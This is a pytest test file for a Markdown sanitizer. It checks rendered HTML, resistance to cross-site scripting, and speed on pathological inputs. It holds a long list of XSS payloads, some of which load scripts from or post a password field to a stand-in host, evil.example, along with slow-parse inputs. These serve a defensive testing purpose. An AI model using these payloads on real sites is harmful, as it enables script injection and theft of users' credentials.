"""Markdown of organisations: what it looks like, that it does nothing, and that no text takes long."""

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portal import markdown
from tests.portal.markup import Markup, faults

DOT = "data:image/gif;base64,R0lGODlhAQABAAAAACw="
REL = 'rel="noopener noreferrer nofollow"'


@pytest.mark.parametrize(
    ("text", "markup"),
    [
        ("# Payments", '<h2 id="user-content-payments">Payments</h2>\n'),
        ("### a\n#### b", '<h2 id="user-content-a">a</h2>\n<h3 id="user-content-b">b</h3>\n'),
        ("###### b\n# a", '<h6 id="user-content-b">b</h6>\n<h2 id="user-content-a">a</h2>\n'),
        (
            "# A\n# A\n# A-1",
            '<h2 id="user-content-a">A</h2>\n<h2 id="user-content-a-1">A</h2>\n<h2 id="user-content-a-1-1">A-1</h2>\n',
        ),
        ("# *Über* `uns`", '<h2 id="user-content-über-uns"><em>Über</em> <code>uns</code></h2>\n'),
        ("# !", '<h2 id="user-content-section">!</h2>\n'),
        ("**b** _i_ ~~s~~", "<p><strong>b</strong> <em>i</em> <s>s</s></p>\n"),
        ("[a](/b 't')", '<p><a href="/b" title="t">a</a></p>\n'),
        ("[a](b/c?d=1:2#e)", '<p><a href="b/c?d=1:2#e">a</a></p>\n'),
        ("[a](#set-up)", '<p><a href="#user-content-set-up">a</a></p>\n'),
        ("[a](#user-content-set-up)", '<p><a href="#user-content-set-up">a</a></p>\n'),
        ("<https://b.example>", f'<p><a href="https://b.example" {REL}>https://b.example</a></p>\n'),
        ("[a](HTTPS://b.example)", f'<p><a href="HTTPS://b.example" {REL}>a</a></p>\n'),
        ("<a@b.example>", f'<p><a href="mailto:a@b.example" {REL}>a@b.example</a></p>\n'),
        (f"![a]({DOT} 't')", f'<p><img src="{DOT}" alt="a" title="t"></p>\n'),
        ("![a](/all/o/globex/keys/)", "<p>a</p>\n"),
        ("![a](../b.png)", "<p>a</p>\n"),
        ("![a *b*](https://c.example/d.png)", "<p>a b</p>\n"),
        ("```python\nx < 1\n```", '<pre tabindex="0"><code class="language-python">x &lt; 1\n</code></pre>\n'),
        ('```"><b x\n```', '<pre tabindex="0"><code></code></pre>\n'),
        ("3. a", '<ol start="3">\n<li>a</li>\n</ol>\n'),
        ("> a\n\n---", "<blockquote>\n<p>a</p>\n</blockquote>\n<hr>\n"),
        ("a\\\nb", "<p>a<br>\nb</p>\n"),
        ("a <b onclick=x>c</b>", "<p>a &lt;b onclick=x&gt;c&lt;/b&gt;</p>\n"),
        ("", ""),
    ],
)
def test_text_becomes_markup(text: str, markup: str) -> None:
    assert markdown.html(text) == markup


def test_a_table_can_be_scrolled_and_keeps_its_alignment() -> None:
    elements = Markup(markdown.html("|a|b|\n|-|-:|\n|1|2|")).elements
    assert elements == [
        ("div", {"class": "table-scroll", "tabindex": "0"}),
        *(("table", {}), ("thead", {}), ("tr", {}), ("th", {}), ("th", {"align": "right"})),
        *(("tbody", {}), ("tr", {}), ("td", {}), ("td", {"align": "right"})),
    ]


VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'\nonerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=//evil.example/><input name=password></form>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\nscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&#x3A;alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](javascript://%0aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](VbScRiPt:msgbox(1))",
    "[x](livescript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2Zy8+)",
    "[x](data:image/png;base64,AAAA)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](view-source:javascript:alert(1))",
    "[x](feed:javascript:alert(1))",
    "[x](//evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](<\\/evil.example>)",
    "[x](</\t/evil.example>)",
    "[x](https:evil.example)",
    "[x](https:/evil.example)",
    '[x](/ "onmouseover=alert(1)")',
    "[x](/ '\" onmouseover=alert(1) \"')",
    '[x](/"onmouseover="alert(1))',
    "[x](/`onmouseover=alert(1)`)",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x]: / "&quot; onclick=alert(1)"\n\n[x]',
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<vbscript:msgbox(1)>",
    "<https://a.example/\"onmouseover='alert(1)'>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    "![x](//evil.example/x.png)",
    "![x](</\t/evil.example/x.png>)",
    "![x](/\\evil.example/x.png)",
    "![x](x.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](data:text/html;base64,AAAA)",
    '![x](data:image/png;base64,AAAA"onerror="alert(1))',
    '![x" onerror="alert(1)](/a.png)',
    "![x](/a.png \"' onerror='alert(1)\")",
    "![<img src=x onerror=alert(1)>](/a.png)",
    "[![x](//evil.example/x.png)](javascript:alert(1))",
    '```js" onclick="alert(1)\nx\n```',
    "```</code><script>alert(1)</script>\nx\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    '# x" onclick="alert(1)',
    "|<script>|\n|:-|\n|<img src=x onerror=alert(1)>|",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "<<script>script>alert(1)<</script>/script>",
    "a\x00<script\x00>alert(1)</script>",
]


@pytest.mark.parametrize("text", VECTORS)
def test_known_attack_does_nothing(text: str) -> None:
    markup = markdown.html(text)
    assert faults(markup) == []
    assert "<script" not in markup.lower()


@pytest.mark.parametrize("text", VECTORS)
def test_known_attack_does_nothing_within_other_markup(text: str) -> None:
    for frame in ("> {}", "- {}", "**{}**", "[{}](/a)", "a\n\n{}\n\nb", "|a|\n|-|\n|{}|", "<div>{}</div>"):
        assert faults(markdown.html(frame.format(text))) == []


PIECES = (
    *(
        "[",
        "](",
        ")",
        "![",
        "<",
        ">",
        '"',
        "'",
        "`",
        "```",
        "\n",
        "\n\n",
        "> ",
        "- ",
        "|",
        "|-|\n",
        "# ",
        "*",
        "\\",
        "/",
    ),
    *(
        "javascript:",
        "java\tscript:",
        "data:image/png;base64,",
        "data:text/html,",
        "//evil.example",
        "https://a.example",
    ),
    *("<script>", "</script>", "<svg onload=x>", "<img src=x onerror=x>", " onclick=x ", "style=x", "&colon;", "&#9;"),
    *("[a]: ", "[a]", "&quot;", "\x00", "\x01", "\u2028", "é", "a", " ", "    "),
)


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(PIECES) | st.text(max_size=3), max_size=25).map("".join))
def test_no_text_at_all_does_anything(text: str) -> None:
    assert faults(markdown.html(text)) == []


@pytest.mark.parametrize("markup", ["<b>", "<p onclick=a>", "<a href=javascript:a>", "<a href='jav\tascript:a'>"])
def test_the_tests_above_see_what_does_something(markup: str) -> None:
    assert faults(markup) != []


def test_nh3_alone_stops_what_markdown_it_would_let_through() -> None:
    hostile = "".join(f"<p>{vector}</p>" for vector in VECTORS if vector.startswith("<"))
    assert faults(markdown.CLEANER.clean(hostile)) == []


SIZE = markdown.MOST_CHARACTERS
SLOW = {
    "brackets": "[" * SIZE,
    "pictures": "![" * (SIZE // 2),
    "links in links": "[a](" * (SIZE // 4),
    "brackets over lines": "[a\n" * (SIZE // 3),
    "emphasis": "*a**b" * (SIZE // 5),
    "emphasis that nests": "*a " * (SIZE // 6) + "b* " * (SIZE // 6),
    "backticks": "".join("`" * count + " " for count in range(440)),
    "quotes": ">" * SIZE,
    "lists": "- " * (SIZE // 2),
    "deeper and deeper": "".join(" " * depth + "* a\n" for depth in range(440)),
    "quotes that end and begin": "[a]: b\n<\n> " * (SIZE // 12),
    "a wide table": f"{'|' * 5_000}\n{'|-' * 5_000}|\n" + "a\n" * 40_000,
    "comments": "<!--" * (SIZE // 4),
    "entities": "&#x" * (SIZE // 3),
    "headings": "# a\n" * (SIZE // 4),
    "many links to a long address": f"[a]: /{'u' * (SIZE // 2)}\n\n" + "[a]" * (SIZE // 7),
}


@pytest.mark.parametrize("text", SLOW.values(), ids=SLOW)
def test_hostile_text_is_done_in_seconds_and_makes_no_flood(text: str) -> None:
    start = time.process_time()
    markup = markdown.html(text)
    assert time.process_time() - start < 5
    assert len(markup) <= 6 * len(text)


def test_text_that_cannot_be_laid_out_is_shown_as_written_and_said_to_be_so() -> None:
    assert markdown.fault("# a") == ""
    for text, reason in {
        "<" * (SIZE + 1): "The text has 100,001 characters; at most 100,000 are taken.",
        SLOW["quotes that end and begin"]: "The text is nested in a way that takes too long to lay out.",
        SLOW["many links to a long address"]: "The text repeats so much, such as a long address in many links, "
        "that its page would be too large.",
    }.items():
        assert markdown.fault(text) == reason
        assert markdown.html(text).startswith(f'<pre tabindex="0">{text[:1].replace("<", "&lt;")}')


def test_many_texts_of_one_page_are_laid_out_until_it_is_too_much_of_all() -> None:
    links = f"[a]: /{'x' * 1_200}\n\n" + "[a] " * 270
    table = f"{'|a' * 30}\n{'|-' * 30}\n" + f"{'|x' * 30}\n" * 60
    for text in (links, table):
        together = markdown.Together()
        start = time.process_time()
        size = sum(len(together.html(f"{number}\n\n{text}")) for number in range(800))
        assert time.process_time() - start < 20
        assert size < 3 * markdown.MOST_MARKUP_OF_ALL
        assert together.html("# <late>") == '<pre tabindex="0"># &lt;late&gt;</pre>'
    assert markdown.Together().html("# <early>") == markdown.html("# <early>")
